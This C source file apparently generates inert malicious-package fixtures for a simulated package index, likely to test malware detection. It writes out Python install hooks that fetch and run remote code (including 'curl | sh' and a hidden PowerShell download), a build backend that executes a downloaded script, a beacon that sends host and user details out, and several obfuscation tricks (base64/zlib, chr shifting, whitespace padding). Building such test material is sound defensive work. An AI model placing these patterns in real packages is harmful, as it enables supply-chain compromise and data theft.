/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hostile_install - inert packages that would act when they are installed.
 * Takes: a package.  Gives: its members.
 * Runs in: simindex.
 */
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "hostile.h"
#include "ordinary.h"

/* What decoding gives; as inert as the rest. */
static const char inner[] =
    "import os, urllib.request\n"
    "# inert test fixture\n"
    "data = urllib.request.urlopen('http://stage.example.invalid/b').read()\n"
    "open('/tmp/inert', 'wb').write(data)\n"
    "os.system('chmod +x /tmp/inert; /tmp/inert')\n";

void
hostile_downloader(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "colors");
	hostile_setup(p,
	    "import os\nimport subprocess\nimport tempfile\n"
	    "import urllib.request\n\n"
	    "url = \"http://files.example.invalid/update.exe\"\n"
	    "target = os.path.join(tempfile.gettempdir(), \"update.exe\")\n"
	    "urllib.request.urlretrieve(url, target)\n"
	    "subprocess.Popen([target], shell=True)\n", "");
}

void
hostile_cmdclass(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "Fast HTTP");
	hostile_setup(p,
	    "from setuptools.command.install import install\n"
	    "import os\n\n\n"
	    "class Install(install):\n    def run(self):\n"
	    "        install.run(self)\n"
	    "        os.system(\"curl -s http://sh.example.invalid/i | "
	    "sh\")\n\n",
	    "    cmdclass={\"install\": Install},\n");
}

/* base64 of zlib of the inner text. */
static char *
packed_inner(void)
{
	unsigned char	 z[1024];
	uLongf		 n = sizeof(z);

	compress2(z, &n, (const Bytef *)inner, sizeof(inner) - 1, 9);
	return base64_text(z, n);
}

void
hostile_exec_decoded(struct package *p, struct chance *c)
{
	char	*text = packed_inner();
	char	*body = must_format("import base64\nimport zlib\n\n"
	    "exec(zlib.decompress(base64.b64decode(\"%s\")))\n", text);

	(void)c;
	hostile_poor(p, "formatters");
	hostile_setup(p, body, "");
	free(body);
	free(text);
}

/* The token has the shape of one and decrypts to nothing. */
void
hostile_fernet(struct package *p, struct chance *c)
{
	unsigned char	 raw[400], key[32];
	char		*token, *key_text, *body;

	chance_fill(c, raw, sizeof(raw));
	chance_fill(c, key, sizeof(key));
	memcpy(raw, "\x80\0\0\0\0", 5);
	token = base64_url_text(raw, sizeof(raw));
	key_text = base64_url_text(key, sizeof(key));
	body = must_format("from fernet import Fernet\n\n"
	    "exec(Fernet(b'%s=').decrypt(b'%s'))\n", key_text, token);
	hostile_poor(p, "requests with security");
	hostile_setup(p, body, "");
	free(body);
	free(key_text);
	free(token);
}

/* UTF-16 in base64, as powershell -EncodedCommand takes it. */
void
hostile_powershell(struct package *p, struct chance *c)
{
	static const char	 command[] = "iwr http://ps.example.invalid/a"
	    ".ps1 -OutFile $env:TEMP\\a.ps1; # inert test fixture";
	char	 wide[2 * sizeof(command)] = { 0 };
	char	*text, *body;

	(void)c;
	for (size_t i = 0; i + 1 < sizeof(command); i++)
		wide[2 * i] = command[i];
	text = base64_text(wide, 2 * (sizeof(command) - 1));
	body = must_format("import subprocess\n\nsubprocess.Popen("
	    "\"powershell -WindowStyle Hidden -ExecutionPolicy Bypass "
	    "-EncodedCommand %s\", shell=True)\n", text);
	hostile_poor(p, "windows utils");
	hostile_setup(p, body, "");
	free(body);
	free(text);
}

void
hostile_padded(struct package *p, struct chance *c)
{
	char	*text = packed_inner();
	char	*body = must_format("import os;%*s__import__('builtins').exec("
	    "__import__('zlib').decompress(__import__('base64').b64decode("
	    "'%s')))\n", 320, "", text);

	(void)c;
	hostile_poor(p, "json parser");
	hostile_setup(p, body, "");
	free(body);
	free(text);
}

/* No code object: the bytes are filler behind a marshal type byte. */
void
hostile_marshal(struct package *p, struct chance *c)
{
	unsigned char	 raw[300];
	char		*text, *body;

	chance_fill(c, raw, sizeof(raw));
	raw[0] = 'c';
	text = base64_text(raw, sizeof(raw));
	body = must_format("import base64\nimport marshal\n\n"
	    "exec(marshal.loads(base64.b64decode('%s')))\n", text);
	hostile_poor(p, "cache");
	hostile_setup(p, body, "");
	free(body);
	free(text);
}

void
hostile_chr(struct package *p, struct chance *c)
{
	struct text	 t = { 0 };

	(void)c;
	text_puts(&t, "exec(''.join(chr(n - 3) for n in [");
	for (size_t i = 0; inner[i] != '\0'; i++)
		text_putf(&t, "%s%d", i > 0 ? ", " : "", inner[i] + 3);
	text_puts(&t, "]))\n");
	hostile_poor(p, "strings");
	hostile_setup(p, t.s, "");
	text_free(&t);
}

void
hostile_backend(struct package *p, struct chance *c)
{
	char	*path = hostile_path(p, "__init__.py");

	(void)c;
	hostile_poor(p, "a quiet build");
	package_textf(p, IN_SDIST, "pyproject.toml", "%s[build-system]\n"
	    "requires = [\"setuptools\"]\nbuild-backend = \"_backend\"\n"
	    "backend-path = [\"build_tools\"]\n\n[project]\nname = \"%s\"\n"
	    "version = \"%s\"\n", INERT, p->name, p->version);
	package_text(p, IN_SDIST, "build_tools/_backend.py", INERT
	    "import subprocess\nimport urllib.request\n\n"
	    "from setuptools.build_meta import *  # noqa\n\n"
	    "code = urllib.request.urlopen("
	    "\"http://build.example.invalid/x.sh\").read()\n"
	    "subprocess.run([\"sh\", \"-c\", code.decode()])\n");
	package_text(p, IN_BOTH, path, "");
	free(path);
}

static const char beacon[] =
    "import getpass\nimport os\nimport platform\nimport socket\n"
    "import urllib.parse\nimport urllib.request\n\n"
    "info = {\"host\": socket.gethostname(), \"user\": getpass.getuser(),\n"
    "    \"cwd\": os.getcwd(), \"os\": platform.platform()}\n"
    "urllib.request.urlopen(\"https://example.invalid/c0ffee.oast.fun/?\" +\n"
    "    urllib.parse.urlencode(info))\n";

void
hostile_beacon(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "metrics");
	hostile_setup(p, beacon, "");
}

void
hostile_confusion(struct package *p, struct chance *c)
{
	(void)c;
	hostile_poor(p, "internal");
	hostile_setup(p, beacon, "");
}

void
hostile_protected(struct package *p, struct chance *c)
{
	char	*module = name_file(p->name);

	ordinary_dress(p, c);
	hostile_module(p, "from .core import load\n");
	ordinary_module(p, module, "core.py", c);
	free(module);
}
